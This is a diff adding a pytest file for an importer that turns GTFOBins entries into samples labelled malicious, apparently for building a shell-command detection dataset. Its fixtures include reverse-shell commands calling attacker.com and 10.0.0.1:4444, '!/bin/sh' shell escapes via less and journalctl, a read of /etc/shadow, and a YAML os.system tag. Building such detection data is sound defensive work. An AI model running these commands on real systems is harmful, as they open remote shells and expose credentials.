@@ -1,0 +1,205 @@
+"""The importer of GTFOBins checkouts, on small checkouts written here."""
+
+import pytest
+
+from aegish_dist.core.sample import Target
+from aegish_dist.datasets.gtfobins import import_gtfobins
+from aegish_dist.errors import DatasetError
+
+COMMIT = "0123456789abcdef0123456789abcdef01234567"
+
+
+@pytest.fixture
+def checkout(tmp_path):
+    def write(**files):
+        directory = tmp_path / "_gtfobins"
+        directory.mkdir()
+        for name, text in files.items():
+            (directory / name).write_text(f"---\n{text}\n...\n", encoding="utf-8")
+        return tmp_path
+
+    return write
+
+
+def by_command(dataset):
+    return {sample.command: sample for sample in dataset.samples}
+
+
+def test_entries_become_malicious_samples(checkout):
+    """The function is the category and the file's name the cluster; other fields may be anything."""
+    text = """
+comment: about it
+functions:
+  shell:
+  - code: |-
+      7z x
+      /bin/sh
+    contexts: {sudo: , unprivileged: }
+    version: 16.02
+  reverse-shell:
+  - code: 7z attacker.com:12345
+    contexts:
+    listener: tcp-server
+    tty: false
+  - code: 7z --tls attacker.com
+    listener: {code: openssl s_server, comment: c}
+  library-load:
+  - code: 7z /path/to/lib.so
+"""
+    dataset = import_gtfobins(checkout(**{"7z": text}))
+    assert [(s.command, s.target, s.category, s.cluster) for s in dataset.samples] == [
+        ("7z x\n/bin/sh", Target.MALICIOUS, "shell", "7z"),
+        ("7z 10.0.0.1:4444", Target.MALICIOUS, "reverse-shell", "7z"),
+        ("7z --tls 10.0.0.1", Target.MALICIOUS, "reverse-shell", "7z"),
+    ]
+    assert dataset.samples[0].metadata == {"version": "16.02"}
+    assert (dataset.name, dataset.licence) == ("gtfobins", "GPL-3.0")
+
+
+ROOT = """
+functions:
+  shell:
+  - code: a 1
+    contexts: {sudo: , suid: {shell: true}}
+  - contexts: {capabilities: {code: a 2, list: [CAP_SETUID]}}
+  - code: a 3
+    contexts: {sudo: {code: a 3 -p}, unprivileged: {code: a 3 -u}}
+  - code: a 4
+    contexts: {sudo: {code: a 4 -p}, unprivileged: }
+"""
+
+
+def test_commands_that_need_root_are_left_out(checkout):
+    """Only what works unprivileged is kept, with the code of that context."""
+    assert list(by_command(import_gtfobins(checkout(a=ROOT)))) == ["a 3 -u", "a 4"]
+
+
+def test_commands_that_need_root_can_be_included(checkout):
+    """Included, they are labelled."""
+    samples = by_command(import_gtfobins(checkout(a=ROOT), include_root=True))
+    assert {command: dict(sample.metadata) for command, sample in samples.items()} == {
+        "a 1": {"needs_root": "true"},
+        "a 2": {"needs_root": "true"},
+        "a 3 -u": {},
+        "a 4": {},
+    }
+
+
+def test_same_text_is_kept_once(checkout):
+    """The first of several equal commands wins, also across categories."""
+    text = "functions: {download: [{code: a x}], shell: [{code: a x}, {code: a y}, {code: a y}]}"
+    samples = import_gtfobins(checkout(a=text)).samples
+    assert [(s.command, s.category) for s in samples] == [("a x", "download"), ("a y", "shell")]
+
+
+def test_alias_is_named_in_the_program_it_stands_for(checkout):
+    """An alias gives no samples of its own."""
+    files = {"apt": "alias: apt-get", "apt-get": "functions: {shell: [{code: apt-get x}]}"}
+    (sample,) = import_gtfobins(checkout(**files)).samples
+    assert (sample.cluster, sample.metadata) == ("apt-get", {"aliases": "apt"})
+
+
+def test_inherited_functions(checkout):
+    """An `inherit` entry gives the first command of each function, through a chain, cycles or not."""
+    files = {
+        "less": r"""
+functions:
+  shell: [{code: "less /etc/hosts\n!/bin/sh"}, {code: "less /etc/hosts\n!/bin/bash"}]
+  file-read: [{code: less /path/to/input-file}]
+  inherit: [{code: journalctl, from: journalctl}]""",
+        "journalctl": "functions: {inherit: [{code: journalctl, from: less}]}",
+        "eb": "functions: {inherit: [{code: eb logs, from: journalctl}]}",
+        "vigr": "functions: {inherit: [{code: vigr, from: less, contexts: {sudo: }}]}",
+        "lost": "functions: {inherit: [{code: lost, from: nowhere}]}",
+    }
+    path = checkout(**files)
+    samples = by_command(import_gtfobins(path))
+    assert list(samples) == [
+        "eb logs\n!/bin/sh",
+        "journalctl\n!/bin/sh",
+        "less /etc/hosts\n!/bin/sh",
+        "less /etc/hosts\n!/bin/bash",
+        "less /etc/shadow",
+    ]
+    eb = samples["eb logs\n!/bin/sh"]
+    assert (eb.category, eb.cluster, eb.metadata) == ("shell", "eb", {"inherits": "journalctl"})
+    rooted = by_command(import_gtfobins(path, include_root=True))
+    assert rooted["vigr\n!/bin/sh"].metadata == {"inherits": "less", "needs_root": "true"}
+
+
+@pytest.mark.parametrize(
+    ("text", "line", "field"),
+    [
+        ("functions:\n  shell: [", 4, None),
+        ("functions: !!python/name:os.system", 2, None),
+        ("functions: {shell: [{version: 2026-99-99}]}", None, None),
+        ("[" * 2_000, None, None),
+        ("- a", None, None),
+        ("functions: [a]", None, "functions"),
+        ("functions: {shell: a}", None, "functions.shell"),
+        ("functions: {shell: [a]}", None, "functions.shell[0]"),
+        ("functions: {shell: [{code: b}, {comment: c}]}", None, "functions.shell[1].code"),
+        ("functions: {shell: [{code: 7}]}", None, "functions.shell[0].code"),
+        ("functions: {shell: [{code: b, contexts: [sudo]}]}", None, "functions.shell[0].contexts"),
+        ("functions: {inherit: [{code: b}]}", None, "functions.inherit[0].from"),
+        ('functions: {shell: [{code: "b\\e"}]}', None, "functions.shell"),
+    ],
+)
+def test_wrong_file(checkout, text, line, field):
+    """A wrong file stops the import with its name, and line or field as far as they are known."""
+    path = checkout(a="functions: {shell: [{code: a}]}", b=text)
+    with pytest.raises(DatasetError) as caught:
+        import_gtfobins(path)
+    assert "\n" not in str(caught.value)
+    assert caught.value.source == str(path / "_gtfobins" / "b")
+    assert caught.value.field == field
+    assert line is None or caught.value.line == line
+
+
+def test_wrong_directory(tmp_path):
+    """What is no checkout, has the old layout, or has no commands is refused."""
+    with pytest.raises(DatasetError, match="give the root of a GTFOBins checkout"):
+        import_gtfobins(tmp_path)
+    (tmp_path / "_gtfobins").mkdir()
+    with pytest.raises(DatasetError, match="holds no samples"):
+        import_gtfobins(tmp_path)
+    (tmp_path / "_gtfobins" / "tar.md").write_text("---\n---\n")
+    with pytest.raises(DatasetError, match=r"tar\.md: is of an older layout"):
+        import_gtfobins(tmp_path)
+
+
+GIT_LAYOUTS = {
+    "detached": {".git/HEAD": COMMIT},
+    "loose": {".git/HEAD": "ref: refs/heads/master\n", ".git/refs/heads/master": f"{COMMIT}\n"},
+    "packed": {
+        ".git/HEAD": "ref: refs/heads/master\n",
+        ".git/packed-refs": f"# pack-refs with: peeled\n{'f' * 40} refs/heads/master2\n{COMMIT} refs/heads/master\n",
+    },
+    "worktree": {
+        ".git": "gitdir: main/worktrees/w\n",
+        "main/worktrees/w/HEAD": "ref: refs/heads/master\n",
+        "main/worktrees/w/commondir": "../..\n",
+        "main/refs/heads/master": COMMIT,
+    },
+}
+
+
+@pytest.mark.parametrize("layout", GIT_LAYOUTS)
+def test_commit_is_recorded(checkout, layout):
+    """The commit is found in each way git stores it."""
+    path = checkout(a="functions: {shell: [{code: a}]}")
+    for name, text in GIT_LAYOUTS[layout].items():
+        file = path / name
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(text)
+    assert import_gtfobins(path).source == f"GTFOBins, commit {COMMIT}"
+
+
+@pytest.mark.parametrize("head", [None, "ref: refs/heads/none", "garbage"])
+def test_commit_is_unknown(checkout, head):
+    """Without usable git data the source says so."""
+    path = checkout(a="functions: {shell: [{code: a}]}")
+    if head is not None:
+        (path / ".git").mkdir()
+        (path / ".git" / "HEAD").write_text(head)
+    assert import_gtfobins(path).source == "GTFOBins, unknown commit"
